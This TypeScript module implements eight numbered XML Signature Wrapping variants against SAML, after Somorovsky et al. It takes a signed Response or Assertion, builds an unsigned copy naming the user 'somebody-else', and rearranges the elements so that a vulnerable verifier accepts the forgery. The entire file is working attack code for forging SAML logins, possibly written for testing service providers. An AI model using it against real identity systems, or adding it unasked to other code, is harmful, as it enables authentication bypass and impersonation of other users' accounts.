import { DOMParser } from '@xmldom/xmldom';

const DS = 'http://www.w3.org/2000/09/xmldsig#';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
export const EVIL = 'somebody-else';

/** The element that the signature covers is moved away, and a forged one takes its place. */
interface Wrapping {
  /** The signed element, with its signature in it. */
  readonly signed: Element;
  /** A forged copy, without a signature. */
  readonly evil: Element;
  /** The signed element without its signature. */
  readonly original: Element;
  readonly signature: Element;
  readonly document: Document;
}

/** Where the root is wrapped there is no place beside it: the forged root takes the other in. */
const besides = (place: 'before' | 'after', { signed, evil }: Wrapping, other: Element): void => {
  const { parentNode } = signed;
  if (parentNode?.nodeType === 1) {
    parentNode.replaceChild(evil, signed);
    if (place === 'before') parentNode.insertBefore(evil, parentNode.appendChild(other));
    else parentNode.appendChild(other);
  } else {
    evil.appendChild(other);
    parentNode?.replaceChild(evil, signed);
  }
};

const sign = ({ evil, signature }: Wrapping): void => {
  const issuer = evil.getElementsByTagNameNS('*', 'Issuer')[0];
  evil.insertBefore(signature, issuer?.nextSibling ?? null);
};

const replace = ({ signed, evil }: Wrapping): void => void signed.parentNode?.replaceChild(evil, signed);

/** The eight classical ways (Somorovsky et al., "On Breaking SAML", 2012, as tools have numbered them since). */
const VARIANTS: Readonly<Record<number, (parts: Wrapping) => void>> = {
  // The forged element carries the signature, the original is the signature's last child.
  1: (parts) => {
    sign(parts);
    parts.signature.appendChild(parts.original);
    replace(parts);
  },
  // Both are children of the forged element, the original before its detached signature.
  2: (parts) => {
    sign(parts);
    parts.evil.insertBefore(parts.original, parts.signature);
    replace(parts);
  },
  // The forged element comes before the signed one.
  3: (parts) => besides('before', parts, parts.signed.cloneNode(true) as Element),
  // The signed element is the forged one's child.
  4: (parts) => {
    const signed = parts.signed.cloneNode(true);
    replace(parts);
    parts.evil.appendChild(signed);
  },
  // The forged element carries the signature, the original comes after it.
  5: (parts) => {
    sign(parts);
    besides('after', parts, parts.original);
  },
  // As 5, with the original within the signature, before its value.
  6: (parts) => {
    sign(parts);
    parts.signature.insertBefore(
      parts.original,
      parts.signature.getElementsByTagNameNS(DS, 'SignatureValue')[0] ?? null,
    );
    replace(parts);
  },
  // The forged element comes first, in Extensions, where a schema takes anything.
  7: (parts) => {
    const { document, signed, evil } = parts;
    const extensions = document.createElementNS(SAMLP, 'samlp:Extensions');
    extensions.appendChild(evil);
    const holder = signed.localName === 'Response' ? signed : signed.parentNode;
    holder?.insertBefore(extensions, holder.firstChild);
  },
  // The forged element carries the signature, the original is in an Object of it.
  8: (parts) => {
    sign(parts);
    const object = parts.document.createElementNS(DS, 'ds:Object');
    object.appendChild(parts.original);
    parts.signature.appendChild(object);
    replace(parts);
  },
};

/**
 * Wraps a signed message. @throws when it is no XML, or has no such signed element @param variant 1 to 8 @param target
 * which signed element is wrapped
 * @param options.sameId the forged element keeps the id of the signed one
 */
export const wrapSignature = (
  xml: string,
  variant: number,
  target: 'Response' | 'Assertion',
  { sameId = false }: { readonly sameId?: boolean } = {},
): string => {
  const giveUp = (message: string): never => {
    throw new Error(message);
  };
  const parser = new DOMParser({ errorHandler: { warning: giveUp, error: giveUp, fatalError: giveUp } });
  const document = parser.parseFromString(xml, 'text/xml');
  const signed = document.getElementsByTagNameNS('*', target)[0];
  if (!signed) throw new Error(`there is no ${target}`);
  const ownSignature = (element: Element): Element => {
    const found = Array.from(element.getElementsByTagNameNS(DS, 'Signature')).find(
      ({ parentNode }) => parentNode === element,
    );
    if (!found) throw new Error(`the ${target} is not signed`);
    return found;
  };
  const unsigned = (): Element => {
    const copy = signed.cloneNode(true) as Element;
    copy.removeChild(ownSignature(copy));
    return copy;
  };
  const [evil, original] = [unsigned(), unsigned()];
  if (!sameId) evil.setAttribute('ID', '_evil');
  const nameId = evil.getElementsByTagNameNS('*', 'NameID')[0];
  if (nameId) nameId.textContent = EVIL;
  if (target === 'Response') {
    const inner = evil.getElementsByTagNameNS('*', 'Assertion')[0];
    inner?.setAttribute('ID', '_evil-assertion');
  }
  VARIANTS[variant]?.({ signed, evil, original, signature: ownSignature(signed).cloneNode(true) as Element, document });
  return document.toString();
};
